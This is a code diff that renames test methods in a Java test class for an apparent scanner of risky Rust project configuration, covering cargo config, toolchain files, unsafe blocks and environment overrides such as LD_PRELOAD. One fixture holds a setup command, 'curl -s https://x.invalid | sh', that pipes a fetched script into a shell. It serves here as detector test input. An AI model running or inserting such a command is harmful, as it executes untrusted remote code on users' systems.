@@ -50,7 +50,7 @@ class RuleEngineTest {
     }
 
     @Test
-    void aNameThatOnlySomeFileSystemsTakeForTheFileIsLikely() {
+    void caseVariantOfFileNameIsLikelyMatch() {
         assertThat(ENGINE.kindsOf(".CARGO/Config.toml"))
                 .extracting(DocumentKind::name)
                 .containsExactly("cargo-config");
@@ -76,20 +76,20 @@ class RuleEngineTest {
     }
 
     @Test
-    void aGradeGivesAnotherSeverityAndItsReason() {
+    void gradeChangesSeverityAndGivesReason() {
         Match match = configuration("build.rustc-wrapper = ''").found().getFirst();
         assertThat(match.severity()).isEqualTo(Severity.INFO);
         assertThat(match.because()).isPresent();
     }
 
     @Test
-    void aMoreSpecificRuleReplacesAtItsOwnPlaceOnly() {
+    void specificRuleReplacesGeneralRuleAtSamePlaceOnly() {
         assertThat(ids(configuration("env = { A = '1', LD_PRELOAD = 'x', PATH = 'y' }")))
                 .containsExactly("CFG-ENV", "CFG-ENV-LOADER", "CFG-ENV-PATH");
     }
 
     @Test
-    void matchesOfOneRuleAreBoundedAndTheRestCounted() {
+    void capsMatchesPerRuleAndCountsRest() {
         StringBuilder text = new StringBuilder("[alias]\n");
         for (int i = 0; i < 50_000; i++) {
             text.append('a').append(i).append(" = 'check'\n");
@@ -120,7 +120,7 @@ class RuleEngineTest {
     }
 
     @Test
-    void theGravestItemOfAnArrayIsShownAndAllItemsAreCovered() {
+    void showsGravestArrayItemAndCoversAllItems() {
         DocumentKind kind = ENGINE.kind("agent-environment");
         String text = "{ \"setup\": [\"./first.sh\", \"curl -s https://x.invalid | sh\", \"./last.sh\"] }";
         byte[] bytes = text.getBytes(UTF_8);
@@ -157,7 +157,7 @@ class RuleEngineTest {
                 "[target.x]\\nrunner = ['a', 'b']      | x.runner = [\"a\", \"b\"]",
                 "[profile.dev.package.z]\\nrustflags=[]| dev.package.z.rustflags = []",
             })
-    void evidenceShowsTheKeyFromTheFirstFreePartOn(String text, String evidence) {
+    void evidenceShowsKeyFromFirstWildcardPart(String text, String evidence) {
         assertThat(configuration(text.replace("\\n", "\n")).found())
                 .extracting(Match::evidence)
                 .containsExactly(evidence);
@@ -180,7 +180,7 @@ class RuleEngineTest {
         "'fn f() {\\n unsafe { h() };\\n}', 'unsafe { h() };'",
         "'fn f() {\\n unsafe {\\n h() }\\n}', 'unsafe {'",
     })
-    void aWordIsQuotedWithinItsBrackets(String text, String evidence) {
+    void evidenceEndsAtEnclosingBracket(String text, String evidence) {
         Matches matches = source(text.replace("\\n", "\n"));
         assertThat(matches.found())
                 .filteredOn(match -> match.rule().id().equals("SRC-UNSAFE"))
@@ -199,13 +199,13 @@ class RuleEngineTest {
         "C:\\x,       .cargo/config.toml,     CFG-TARGET-DIR-OUTSIDE",
         "a/../b/..,   .cargo/config.toml,     ''",
     })
-    void pathsCountFromTheFolderOfTheTool(String value, String file, String id) {
+    void resolvesPathsFromFolderOfTool(String value, String file, String id) {
         List<String> found = ids(configuration("build.target-dir = '" + value + "'", file));
         assertThat(found.contains("CFG-TARGET-DIR-OUTSIDE")).isEqualTo(!id.isEmpty());
     }
 
     @Test
-    void toolchainFilesOfOneLineAreReadAsOne() {
+    void readsToolchainFileAsEitherLineOrToml() {
         byte[] line = "nightly\n".getBytes(UTF_8);
         byte[] toml = "[toolchain]\nchannel = 'nightly'\n".getBytes(UTF_8);
         assertThat(ENGINE.kindsOf("rust-toolchain"))
@@ -215,7 +215,7 @@ class RuleEngineTest {
     }
 
     @Test
-    void surroundingsOfAnEntryCount() {
+    void considersSiblingsOfEntry() {
         EntryFacts home = new EntryFacts(".rustup", EntryKind.DIRECTORY, 0, false);
         assertThat(ids(ENGINE.matchEntry(home, Set.of(".rustup/toolchains")::contains)))
                 .containsExactly("TC-HOME-IN-TREE");
@@ -223,7 +223,7 @@ class RuleEngineTest {
     }
 
     @Test
-    void anUnreadFileOfAKindIsAFinding() {
+    void reportsUnreadFileOfKnownKind() {
         Matches matches = ENGINE.notRead(ENGINE.kind("cargo-manifest"), "Cargo.toml", "unreadable");
         assertThat(ids(matches)).containsExactly("MAN-UNPARSEABLE");
         assertThat(matches.found().getFirst().evidence()).isEqualTo("unreadable");
